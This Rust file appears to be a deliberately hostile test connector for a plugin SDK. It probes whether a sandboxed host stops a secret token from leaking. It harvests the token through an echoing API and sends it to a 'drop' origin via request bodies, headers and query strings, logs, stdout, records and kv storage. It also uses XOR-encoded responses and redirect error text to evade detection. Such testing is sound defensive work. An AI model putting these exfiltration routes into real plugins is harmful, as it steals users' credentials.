//! A connector that tries every route it has to carry a secret's value out
//! of the sandbox, as an attacker (or an honest plugin talking to an API
//! that echoes credentials) would. The secret `token` is bound to
//! `http://localhost:*` only; the config names that API (`api`, a server
//! that echoes every request header back) and a second granted origin
//! (`drop`, a server that records what it receives).
//!
//! - `read(leads)`: asks the API with the token (bearer, a copy in another
//!   header, basic auth), gathers everything that came back, and puts it
//!   into records, the page state, kv, its log, stdout/stderr, and sends it
//!   to `drop` (body, header and query); it also tries to send the template
//!   itself to `drop`.
//! - `read(fail)`: the API answers 401 quoting the credential; the SDK's
//!   error becomes the run's error.
//! - `read(compressed)`: asks the API for an encoded answer (`x-xor`,
//!   standing in for gzip), decodes it itself and passes it on.
//! - `read(redirect)`: the API redirects to a host named after the
//!   credential; the refusal's text is passed on.
//! - `write(leads)`: asks the API again and fails every second record with
//!   what came back (dead letters), creating the others.
//!
//! With `plain` in the config, that text is carried out instead of what the
//! API answers: a value the plugin got some other way, for the host's
//! second line (its sinks) alone.

use std::io::Write;

use nexo_sdk::http::secret_ref;
use nexo_sdk::prelude::*;
use serde::Deserialize;

/// Where to aim.
#[derive(Debug, Deserialize, JsonSchema)]
pub struct Config {
    /// The API the token is bound to (echoes request headers).
    pub api: String,
    /// A second granted origin that records what it receives.
    pub drop: String,
    /// The basic-auth user name.
    pub user: String,
    /// Text to carry out instead of asking the API: a value the plugin got
    /// some other way (tests of the host's second line).
    #[serde(default)]
    pub plain: Option<String>,
}

/// The connector.
#[derive(Debug)]
pub struct HostileSecrets;

const STREAMS: &[&str] = &["leads", "fail", "compressed", "redirect"];

/// Everything the API sent back for requests carrying the token.
fn harvest(config: &Config) -> Result<String, Error> {
    if let Some(plain) = &config.plain {
        return Ok(plain.clone());
    }
    let mut got = String::new();
    let bearer = Request::get(format!("{}/echo", config.api))
        .bearer_secret("token")
        .header("x-copy", secret_ref("token"))
        .send()?;
    let basic = Request::get(format!("{}/echo", config.api))
        .basic_auth(config.user.clone(), secret_ref("token"))
        .send()?;
    for r in [bearer, basic] {
        for (k, v) in &r.headers {
            got.push_str(&format!("{k}: {v}\n"));
        }
        got.push_str(&r.text());
        got.push('\n');
    }
    Ok(got)
}

/// Every exfiltration route a connector has, all at once.
fn exfiltrate(config: &Config, got: &str) -> Result<(), Error> {
    nexo_sdk::info!("the API echoed: {got}");
    nexo_sdk::error!("again: {got}");
    let _ = writeln!(std::io::stdout(), "stdout: {got}");
    let _ = writeln!(std::io::stderr(), "stderr: {got}");
    let excerpt: String = got.chars().take(1500).collect();
    let header: String = excerpt.replace(['\n', '\r'], " ");
    let _ = Request::post(format!("{}/collect", config.drop))
        .header("x-got", header)
        .query("got", &excerpt)
        .body(got.as_bytes().to_vec())
        .send();
    // The template itself, to an origin the secret is not bound to.
    let _ = Request::post(format!("{}/template", config.drop))
        .bearer_secret("token")
        .header("x-steal", secret_ref("token"))
        .send();
    let _ = Request::post(format!("{}/basic", config.drop))
        .basic_auth(config.user.clone(), secret_ref("token"))
        .send();
    // Last: without a kv grant, this fails the call.
    nexo_sdk::kv::set("echo", got.as_bytes())?;
    Ok(())
}

impl Connector for HostileSecrets {
    type Config = Config;

    fn spec() -> ConnectorSpec {
        ConnectorSpec::new(STREAMS.iter().copied())
            .http_origin("http://*:*")
            .secret("token", "the API token", ["http://localhost:*"])
            .kv_bytes(65536)
    }

    fn check(config: &Config) -> Result<(), Error> {
        let got = harvest(config)?;
        exfiltrate(config, &got)?;
        Err(Error::Auth(format!("check failed, the API said: {got}")))
    }

    fn discover(_config: &Config) -> Result<Vec<StreamInfo>, Error> {
        Ok(STREAMS
            .iter()
            .map(|s| StreamInfo::new(*s, "{}").writable())
            .collect())
    }

    fn read(config: &Config, stream: &str, state: Option<&str>) -> Result<Page, Error> {
        match stream {
            "leads" => {
                if state.is_some() {
                    return Ok(Page::last(Vec::new(), state.map(str::to_string)));
                }
                let got = harvest(config)?;
                exfiltrate(config, &got)?;
                let excerpt: String = got.chars().take(200).collect();
                let records = (1..=4)
                    .map(|i| {
                        Record::upsert(
                            "leads",
                            i.to_string(),
                            &serde_json::json!({ "name": format!("Lead {i}"), "echo": got }),
                        )
                    })
                    .collect::<Result<Vec<_>, _>>()?;
                Ok(Page::last(records, Some(format!("after {excerpt}"))))
            }
            "fail" => {
                Request::get(format!("{}/401", config.api))
                    .bearer_secret("token")
                    .send()?
                    .error_for_status()?;
                Request::get(format!("{}/401", config.api))
                    .basic_auth(config.user.clone(), secret_ref("token"))
                    .send()?
                    .error_for_status()?;
                Err(Error::internal("the API accepted a wrong token"))
            }
            "compressed" => {
                // Ask for an encoding the host cannot search, decode it
                // here, and pass the result on.
                let r = Request::get(format!("{}/echo", config.api))
                    .bearer_secret("token")
                    .header("accept-encoding", "x-xor")
                    .send()?;
                let body: Vec<u8> = if r.header("content-encoding") == Some("x-xor") {
                    r.body.iter().map(|b| b ^ 0x55).collect()
                } else {
                    r.body.clone()
                };
                let _ = Request::post(format!("{}/collect", config.drop))
                    .body(body)
                    .send();
                Ok(Page::last(Vec::new(), None))
            }
            "redirect" => {
                // The API redirects to a host named after the credential;
                // pass on whatever the refusal says.
                let said = match Request::get(format!("{}/redirect", config.api))
                    .bearer_secret("token")
                    .send()
                {
                    Ok(r) => r.text(),
                    Err(e) => e.to_string(),
                };
                let _ = Request::post(format!("{}/collect", config.drop))
                    .body(said.clone())
                    .send();
                Err(Error::internal(said))
            }
            other => Err(Error::unknown_stream(other, STREAMS)),
        }
    }

    fn write(
        config: &Config,
        _stream: &str,
        batch: Vec<Record>,
    ) -> Result<Vec<WriteResult>, Error> {
        let got = harvest(config)?;
        exfiltrate(config, &got)?;
        Ok(batch
            .iter()
            .enumerate()
            .map(|(i, r)| {
                let key = r.idempotency_key().unwrap_or("none").to_string();
                if i % 2 == 1 {
                    WriteResult::new(
                        &r.id,
                        WriteOutcome::Failed(Error::rejected(format!("the API said: {got}"))),
                    )
                } else {
                    WriteResult::new(&r.id, WriteOutcome::Created(format!("d-{key}")))
                }
            })
            .collect())
    }
}

nexo_sdk::export_connector!(HostileSecrets);
